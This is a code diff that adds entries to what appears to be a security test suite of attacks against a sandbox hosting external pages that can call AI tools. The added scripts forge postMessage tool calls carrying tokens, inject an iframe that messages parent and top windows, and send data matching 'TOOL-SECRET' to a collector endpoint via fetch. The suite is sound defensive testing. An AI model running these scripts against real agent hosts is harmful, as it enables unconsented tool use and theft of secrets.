@@ -130,6 +130,47 @@ export const ATTACKS: readonly Attack[] = [
       await A.wait(700);`,
     breach: ({ hostRequests }) => hostRequests.some(({ status }) => status < 400),
   }),
+  attack('l20', 'a page with an opaque origin calls a tool that needs consent', {
+    external: 'opaque',
+    script: post(`{ type: 'tool', payload: { toolName: 'app_write', params: { token: A.token } } }`),
+    breach: called,
+  }),
+  attack('l21', 'a frame inside a page with an opaque origin calls a tool in its name', {
+    external: 'opaque',
+    script: `
+      const frame = document.createElement('iframe');
+      const call = { type: 'tool', surface: 'l21', payload: { toolName: 'app_read', params: { token: A.token } } };
+      frame.srcdoc = '<script>for (const w of [parent.parent, top]) w.postMessage(' + JSON.stringify(call) + ', "*")</' + 'script>';
+      document.body.append(frame);
+      await A.wait(1000);`,
+    breach: called,
+  }),
+  ...[true, 'opaque' as const].map(external =>
+    attack(
+      external === true ? 'l22' : 'l23',
+      `a page ${external === true ? 'by address' : 'with an opaque origin'} goes to another site and reads its data there`,
+      {
+        external,
+        observe: 'network',
+        script: `
+        location.href = A.page('A.initialize(); await A.wait(700); await fetch(A.collector + "/" + (/TOOL-SECRET/.exec(JSON.stringify(A.received)) ?? "nothing"))');
+        await A.wait(2500);`,
+        settleMs: 1500,
+        breach: ({ network }) => network.some(({ detail }) => detail.includes('TOOL-SECRET')),
+      },
+    ),
+  ),
+  attack('l24', 'another view speaks to the sandbox of a page with an opaque origin', {
+    external: 'opaque',
+    script: `
+      for (const w of A.windows())
+        if (w !== window && w !== parent) {
+          w.postMessage({ type: 'tool', payload: { toolName: 'write', params: { token: A.token } } }, '*');
+          w.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { url: A.page('') } }, '*');
+        }
+      await A.wait(700);`,
+    breach: ({ calls, heardBySibling }) => calls.length > 0 || heardBySibling.length > 0,
+  }),
   attack('l19', 'a page by address opens a window, after a click', {
     external: true,
     script: `await A.click(); window.open(${leak('popup')}); await A.wait(700)`,
